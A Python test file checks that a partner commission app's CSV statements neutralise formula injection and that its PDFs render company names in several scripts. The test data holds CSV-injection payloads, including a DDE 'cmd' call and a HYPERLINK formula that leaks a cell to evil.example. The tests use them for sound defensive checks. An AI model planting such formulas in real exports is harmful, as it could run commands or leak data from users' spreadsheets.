"""The partner statement's downloads with hostile and foreign text: the CSV in every language carries no
formula (partner_model.exports), the PDF shows names in any script (partner_model.pdf_fonts)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa
from pypdf import PdfReader

from partner_model import commission_reports, commissions, deals, i18n, rules
from partner_model.commissions import LINE_COLUMNS
from partner_model.models import Deal

# Company names a partner could type (or an import could bring) that a spreadsheet would run as a formula,
# with the cell text the CSV must hold instead: a single quote in front (OWASP's CSV-injection guidance).
HOSTILE = {
    "=1+1": "'=1+1",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-1+1": "'-1+1",
    "@SUM(1+1)": "'@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")':
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r'=1+1",  # a carriage return also breaks the line: the formula after it is quoted too
}
COMPANY, VALUE, COMMISSION = (LINE_COLUMNS.index(c) for c in ("company_name", "value", "commission"))


def _won_deal_named(session, cast, factory, name: str, **kwargs):  # type: ignore[no-untyped-def]
    """A won Acme deal whose company name is `name`. The services trim what users type, so names starting
    with a tab or a carriage return are written straight to the table (as an import or old data could)."""
    typed = name if name == name.strip() else f"Placeholder {len(name)} Oy"
    won = factory.won_deal(cast.acme_user, cast.manager, company_name=typed, **kwargs)
    if typed != name:
        session.execute(sa.update(Deal).where(Deal.id == won.id).values(company_name=name))
        session.commit()
    return won


def _csv_rows(data: bytes, language: str) -> dict[int, list[str]]:
    """The CSV's rows by deal number, read as a spreadsheet reads the file (separator per language)."""
    sep = "," if language == i18n.DEFAULT_LANGUAGE else ";"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))
    assert len(rows[0]) == len(LINE_COLUMNS)
    return {int(row[LINE_COLUMNS.index("deal_id")]): row for row in rows[1:]}


def _amount(text: str, language: str) -> str:
    return text if language == i18n.DEFAULT_LANGUAGE else text.replace(".", ",")


@pytest.mark.parametrize("language", i18n.LANGUAGES)
def test_statement_csv_writes_hostile_company_names_as_text_and_amounts_as_numbers(session, cast, factory,
                                                                                   language):
    won = {name: _won_deal_named(session, cast, factory, name, annual_value="12345.67") for name in HOSTILE}
    week = rules.iso_week(next(iter(won.values())).won_on)
    partner, lines, totals = commission_reports.statement(session, cast.finance, cast.acme.id, week)
    data = commission_reports.statement_csv(lines, language=language)
    assert data.startswith(b"\xef\xbb\xbf") == (language != i18n.DEFAULT_LANGUAGE)
    rows = _csv_rows(data, language)
    for name, safe in HOSTILE.items():
        row = rows[won[name].id]
        assert row[COMPANY] == safe, (language, name)
        assert row[VALUE] == _amount("12345.67", language) and row[COMMISSION] == _amount("2469.13", language)


@pytest.mark.parametrize("language", i18n.LANGUAGES)
def test_statement_csv_keeps_a_reversals_negative_amounts_as_numbers(session, cast, factory, language):
    won = _won_deal_named(session, cast, factory, "-1+1", annual_value="12345.67")
    week = rules.iso_week(won.won_on)
    commissions.approve_week(session, cast.finance, week)
    # Reopened after approval: reversed in the next week.
    deals.move_deal(session, cast.manager, won.id, stage="trial", note="The customer cancelled.")
    partner, lines, totals = commission_reports.statement(session, cast.finance, cast.acme.id, rules.week_after(week))
    row = _csv_rows(commission_reports.statement_csv(lines, language=language), language)[won.id]
    assert row[COMPANY] == "'-1+1"
    assert row[COMMISSION] == _amount("-2469.13", language)  # a negative number, never quoted as text
    assert Decimal(row[COMMISSION].replace(",", ".")) == Decimal("-2469.13")


# --- the PDF in any script ------------------------------------------------------------------------------

SCRIPTS = {"greek": "Ελληνικά", "polish": "Łódź", "cyrillic": "Москва", "arabic": "شركة", "cjk": "東京株式会社"}


def _pdf_text(pdf: bytes) -> str:
    """The text a PDF reader extracts (pypdf), every page."""
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


@pytest.mark.parametrize("script", list(SCRIPTS))
def test_statement_pdf_shows_the_partner_and_company_names_in_their_own_script(session, cast, factory, script):
    name = SCRIPTS[script]
    won = factory.won_deal(cast.acme_user, cast.manager, annual_value="12345.67", company_name=name)
    week = rules.iso_week(won.won_on)
    partner, lines, totals = commission_reports.statement(session, cast.finance, cast.acme.id, week)
    partner = partner.model_copy(update={"legal_name": name, "address": name})
    for language in ("en", "fi"):
        text = _pdf_text(commission_reports.statement_pdf(partner, week, lines, totals, language=language))
        assert text.count(name) == 3, (language, text)  # the partner's name, its address and the company
        assert "?" not in text
        money = i18n.Formats(language).money(Decimal("12345.67"), "EUR").replace("\u202f", "\u00a0")
        assert money in text, text


def test_statement_pdf_shows_every_script_at_once(session, cast, factory):
    names = list(SCRIPTS.values())
    won = [factory.won_deal(cast.acme_user, cast.manager, company_name=name) for name in names]
    week = rules.iso_week(won[0].won_on)
    partner, lines, totals = commission_reports.statement(session, cast.finance, cast.acme.id, week)
    partner = partner.model_copy(update={"legal_name": " ".join(names)})
    text = _pdf_text(commission_reports.statement_pdf(partner, week, lines, totals, language="de"))
    assert all(text.count(name) >= 2 for name in names), text  # the partner line and the company's line
    assert "?" not in text
